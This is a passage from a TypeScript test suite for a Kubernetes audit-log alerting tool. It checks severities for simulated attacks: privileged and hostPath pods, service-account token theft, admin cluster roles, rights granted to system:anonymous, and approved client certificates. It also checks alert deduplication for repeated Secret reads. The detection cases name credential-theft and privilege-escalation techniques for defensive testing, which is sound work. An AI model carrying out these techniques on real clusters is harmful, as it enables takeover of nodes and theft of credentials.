    ['event-generator/CreatePrivilegedPod.json', 'high: Pod that opens the node'],
    ['event-generator/CreateSensitiveMountPod.json', 'high: Pod that opens the node'],
    ['event-generator/ClusterRoleWithWildcardCreated.json', 'low: RBAC of a namespace changed'],
    ['event-generator/K8SServiceaccountCreated.json', 'low: RBAC of a namespace changed'],
    ['stratus/k8s.credential-access.steal-serviceaccount-token.json', 'high: Credentials read by exec'],
    ['stratus/k8s.persistence.create-admin-clusterrole.json', 'medium: System account made'],
    ['stratus/k8s.persistence.create-token.json', 'high: Token of a system account requested'],
    ['stratus/k8s.privilege-escalation.hostpath-volume.json', 'high: Pod that opens the node'],
    ['stratus/k8s.privilege-escalation.privileged-pod.json', 'high: Pod that opens the node'],
  ])('%s is %s', (file, alert) => expect(alertsIn(file)).toContain(alert));

  test.each(['event-generator/K8SConfigMapCreated.json', 'event-generator/K8SDeploymentCreated.json'])(
    '%s is not an alert',
    (file) => expect(alertsIn(file)).toEqual([]),
  );

  test('an ordinary day yields few alerts', () => {
    const all = parsedIn('benign/platform-team-day.json.gz');
    expect(all.length).toBeGreaterThan(1_900);
    expect(all.filter(({ kind }) => kind === 'alert').length).toBeLessThanOrEqual(5);
  });

  test('an ordinary day yields nothing above low', () => {
    expect(alertsIn('benign/platform-team-day.json.gz')).toEqual(['low: RBAC of a namespace changed', 'low: Secret read']);
  });
});

describe('a Secret that the same caller reads again', () => {
  const read = (auditID: string, minute: number, change: object = {}) =>
    itemsOf(
      event({
        auditID,
        objectRef: { resource: 'secrets', namespace: 'shop', name: 'again' },
        userAgent: 'kubectl/v1.36.3',
        requestReceivedTimestamp: new Date(Date.parse('2026-06-01T10:00:00Z') + minute * 60_000).toISOString(),
        ...change,
      }),
    ).map(({ kind }) => kind)[0];

  test('is told once an hour, and each time that its event is delivered again', () => {
    expect([read('r1', 0), read('r2', 5), read('r1', 0), read('r3', 59), read('r4', 61)]).toEqual([
      'alert',
      'ignored',
      'alert',
      'ignored',
      'alert',
    ]);
  });

  test.each([
    ['another program', { userAgent: 'curl/8' }],
    ['another address', { sourceIPs: ['203.0.113.9'] }],
    ['another account', { user: { username: 'trudy' } }],
    ['another pod’s token', { user: { ...user, extra: { 'authentication.kubernetes.io/pod-name': ['p'] } } }],
    ['another Secret', { objectRef: { resource: 'secrets', namespace: 'shop', name: 'other' } }],
  ])('is told of %s', (_, change) => {
    read('s1', 0);
    expect(read('s2', 1, change)).toBe('alert');
  });
});

describe('what should wake somebody', () => {
  const signer = { spec: { signerName: 'kubernetes.io/kube-apiserver-client' } };
  test.each([
    [
      'critical',
      'Rights given to everybody',
      {
        objectRef: { resource: 'clusterrolebindings', name: 'x' },
        verb: 'create',
        requestObject: { subjects: [{ name: 'system:anonymous' }] },
      },
    ],
    [
      'high',
      'Client certificate approved',
      { ...target('certificatesigningrequests', 'approval'), verb: 'update', requestObject: signer },
    ],
    [
      'medium',
      'Certificate approved',
      { ...target('certificatesigningrequests', 'approval'), verb: 'update', level: 'Metadata' },
    ],
  ])('is %s: %s', (severity, rule, change) => expect(alertOf(event(change))).toMatchObject({ severity, rule }));

  test('a dangerous pod that admission refused is medium, and low if its caller had no right at all', () => {
    const pod = { ...target('pods'), verb: 'create', requestObject: { spec: { hostPID: true } }, responseStatus: { code: 403 } };
    const decided = (decision: string) => ({ annotations: { 'authorization.k8s.io/decision': decision } });
    expect(alertOf(event({ ...pod, ...decided('allow') }))).toMatchObject({
      severity: 'medium',
      rule: 'Pod that opens the node (refused)',
    });
    expect(alertOf(event({ ...pod, ...decided('forbid') })).severity).toBe('low');
  });
});
